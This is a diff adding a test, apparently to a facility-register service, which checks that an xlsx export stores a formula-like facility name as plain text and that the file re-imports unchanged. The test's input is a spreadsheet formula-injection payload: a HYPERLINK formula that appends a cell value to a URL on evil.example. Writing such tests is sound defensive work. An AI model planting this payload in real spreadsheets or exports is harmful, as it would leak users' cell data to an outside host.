@@ -60,3 +60,19 @@ def test_a_workbook_imports_back_unchanged(client, create, tmp_path):
     assert (job["summary"]["inserted"], job["summary"]["unchanged"]) == (0, 1)
     second = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
     assert sheets(second.content) == sheets(first.content)
+
+
+def test_a_name_like_a_formula_is_exported_as_text(client, create, tmp_path):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    facility = create(name=name)
+    response = client.get("/v1/export", params={"format": "xlsx", "code": facility["code"]})
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    cell = book["设施"]["B2"]
+    assert (cell.value, cell.data_type) == (name, "s")
+    path = tmp_path / "台账.xlsx"
+    path.write_bytes(response.content)
+    created = client.post(
+        "/v1/imports", params={"filename": "台账.xlsx"}, content=path.read_bytes()
+    )
+    job = client.get(f"/v1/imports/{created.json()['id']}").json()
+    assert (job["status"], job["summary"]["unchanged"]) == ("succeeded", 1), job
